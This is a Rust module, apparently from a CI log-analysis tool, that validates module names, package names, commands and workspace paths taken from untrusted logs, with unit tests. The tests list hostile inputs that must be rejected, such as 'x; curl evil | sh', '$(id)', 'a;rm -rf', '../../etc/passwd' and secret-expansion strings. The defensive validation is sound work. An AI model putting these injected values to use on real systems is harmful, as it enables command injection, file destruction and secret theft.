//! Validation of subjects pulled out of logs. Log text is attacker-controlled
//! (a test can print anything), so a subject is only trusted when it has the
//! plain shape a fix can use literally.

/// A dotted Python module path: ASCII identifiers separated by dots.
pub fn is_module(s: &str) -> bool {
    !s.is_empty() && s.len() <= 200 && s.split('.').all(is_identifier)
}

fn is_identifier(part: &str) -> bool {
    let mut chars = part.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// A PEP 508 distribution name (the name part only, no extras or versions).
pub fn is_distribution(s: &str) -> bool {
    let bytes = s.as_bytes();
    !bytes.is_empty()
        && bytes.len() <= 100
        && bytes[0].is_ascii_alphanumeric()
        && bytes[bytes.len() - 1].is_ascii_alphanumeric()
        && bytes
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
}

/// A bare command name.
pub fn is_command(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && !s.starts_with('-')
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'))
}

const SHELL_WORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "function",
    "select", "time", "return", "export", "local", "source", "set", "unset", "shift", "exit", "break", "continue",
    "eval", "exec", "readonly", "declare", "typeset", "trap", "true", "false", "test",
];

/// Shell keywords and builtins: "not found" for these means broken syntax.
pub fn is_shell_word(s: &str) -> bool {
    SHELL_WORDS.contains(&s)
}

/// Checks a path and returns it relative to the workspace when it is safe to
/// put into a fix: relative (or under the checkout `/home/runner/work/<r>/<r>/`
/// or a container's `/__w/<r>/<r>/` or `/github/workspace/`), without `..`,
/// and without characters a shell or YAML would interpret.
pub fn workspace_path(s: &str) -> Option<String> {
    let s = s.trim();
    if s.is_empty() || s.len() > 512 {
        return None;
    }
    let relative = if s.starts_with('/') || s.starts_with('\\') || s.as_bytes().get(1) == Some(&b':') {
        strip_workspace(s)?
    } else {
        s
    };
    let relative = relative.strip_prefix("./").unwrap_or(relative);
    if relative.is_empty() {
        return None;
    }
    let safe = relative
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'/' | b'+' | b'@' | b'*'));
    let traversal = relative.split('/').any(|part| part == "..");
    (safe && !traversal).then(|| relative.to_string())
}

/// Strips a known checkout prefix from an absolute path.
fn strip_workspace(s: &str) -> Option<&str> {
    for root in [
        "/home/runner/work/",
        "/__w/",
        "/Users/runner/work/",
        "/runner/_work/",
        "/actions-runner/_work/",
    ] {
        if let Some(rest) = s.strip_prefix(root) {
            // `<repo>/<repo>/path`: the first two segments are the checkout.
            let mut parts = rest.splitn(3, '/');
            let (owner, repo, path) = (parts.next()?, parts.next()?, parts.next()?);
            if owner == repo && !owner.starts_with('_') {
                return Some(path);
            }
            return None;
        }
    }
    s.strip_prefix("/github/workspace/")
}

/// The repository name of a checkout path in `line`, if one appears.
pub fn repository_in_path(line: &str) -> Option<&str> {
    for root in ["/home/runner/work/", "/__w/", "/Users/runner/work/"] {
        let Some(at) = line.find(root) else { continue };
        let rest = &line[at + root.len()..];
        let mut parts = rest.splitn(3, '/');
        let (a, b) = (parts.next()?, parts.next()?);
        if a == b && !a.starts_with('_') && !a.is_empty() {
            return Some(a);
        }
    }
    None
}

/// Cuts display text to one bounded line, so hostile subjects cannot spoof
/// extra lines of output.
pub fn display_text(s: &str) -> String {
    let one_line: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(200)
        .collect();
    one_line.trim().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn modules() {
        assert!(is_module("yaml"));
        assert!(is_module("google.protobuf"));
        assert!(is_module("_private"));
        for bad in [
            "",
            "x; curl evil | sh",
            "$(id)",
            "`id`",
            "a..b",
            "1abc",
            "a\nb",
            "${{ github.token }}",
            "mödule",
        ] {
            assert!(!is_module(bad), "{bad:?}");
        }
    }

    #[test]
    fn distributions() {
        assert!(is_distribution("PyYAML"));
        assert!(is_distribution("ruamel.yaml"));
        assert!(is_distribution("opencv-python"));
        for bad in ["-x", "x-", "a b", "x;y", "a==1", "../x"] {
            assert!(!is_distribution(bad), "{bad:?}");
        }
    }

    #[test]
    fn commands() {
        assert!(is_command("docker-compose"));
        assert!(is_command("g++"));
        assert!(is_command("python3.12"));
        for bad in ["", "-rf", "a b", "$(id)", "a/b", "x;y", "`x`"] {
            assert!(!is_command(bad), "{bad:?}");
        }
    }

    #[test]
    fn paths() {
        assert_eq!(workspace_path("requirements.txt").as_deref(), Some("requirements.txt"));
        assert_eq!(workspace_path("./bin/x.sh").as_deref(), Some("bin/x.sh"));
        assert_eq!(
            workspace_path("/home/runner/work/sme/sme/package.json").as_deref(),
            Some("package.json")
        );
        assert_eq!(workspace_path("/__w/r/r/a/b.txt").as_deref(), Some("a/b.txt"));
        assert_eq!(workspace_path("dist/**/*.whl").as_deref(), Some("dist/**/*.whl"));
        for bad in [
            "../../etc/passwd",
            "a/../../b",
            "/etc/passwd",
            "/home/runner/work/_actions/x/y/z",
            "a;rm -rf",
            "$(id)",
            "a`b`",
            "${{ secrets.X }}",
            "a\nb",
            "C:\\x",
        ] {
            assert_eq!(workspace_path(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn repository_from_paths() {
        assert_eq!(
            repository_in_path("at /home/runner/work/dfd/dfd/tests/conftest.py"),
            Some("dfd")
        );
        assert_eq!(repository_in_path("/home/runner/work/_temp/x.sh"), None);
    }

    #[test]
    fn display_is_one_line() {
        assert_eq!(display_text("a\nb\u{1b}[31m"), "a b [31m");
    }
}
